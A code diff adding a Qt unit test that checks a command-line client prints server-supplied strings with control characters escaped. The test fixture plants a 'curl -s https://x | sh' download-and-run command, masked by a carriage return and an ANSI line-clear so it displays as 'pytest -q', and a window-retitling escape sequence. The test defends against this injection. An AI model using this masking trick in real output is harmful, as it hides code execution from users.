@@ -150,6 +150,32 @@ private Q_SLOTS:
         QVERIFY(r.out.contains(QStringLiteral("EV-1")));
     }
 
+    // A server's strings are shown, never obeyed by the terminal: a recommended command cannot hide part of
+    // itself behind a carriage return or an escape sequence, and the name cannot retitle the window.
+    void servedControlCharactersAreShownEscaped()
+    {
+        const QString id = QStringLiteral("feature-with-escapes");
+        QJsonObject context =
+            QJsonDocument::fromJson(FakeCcdashServer::fixture(QStringLiteral("execution-context-r2-start-phase-1.json"))).object();
+        QJsonObject feature = context.value(QStringLiteral("feature")).toObject();
+        feature.insert(QStringLiteral("id"), id);
+        feature.insert(QStringLiteral("name"), QStringLiteral("Name\x1b]0;owned\x07"));
+        context.insert(QStringLiteral("feature"), feature);
+        QJsonObject recommendations = context.value(QStringLiteral("recommendations")).toObject();
+        QJsonObject primary = recommendations.value(QStringLiteral("primary")).toObject();
+        primary.insert(QStringLiteral("command"), QStringLiteral("curl -s https://x | sh\r\x1b[2Kpytest -q"));
+        recommendations.insert(QStringLiteral("primary"), primary);
+        context.insert(QStringLiteral("recommendations"), recommendations);
+        m_server->setExecutionContext(id, context);
+
+        const Run r = run(withUrl({QStringLiteral("context"), id}));
+        QCOMPARE(r.status, 0);
+        QVERIFY2(r.out.contains(QStringLiteral("  curl -s https://x | sh\\r\\e[2Kpytest -q\n")), qPrintable(r.out));
+        QVERIFY2(r.out.contains(QStringLiteral("Name\\e]0;owned\\x07 (feature-with-escapes)")), qPrintable(r.out));
+        QVERIFY(!r.out.contains(QChar(0x1b)));
+        QVERIFY(!r.out.contains(QLatin1Char('\r')));
+    }
+
     void contextJsonKeepsCcdashNames()
     {
         const QString id = QStringLiteral("feature-execution-workbench-phase-3-platform-connectors-v1");
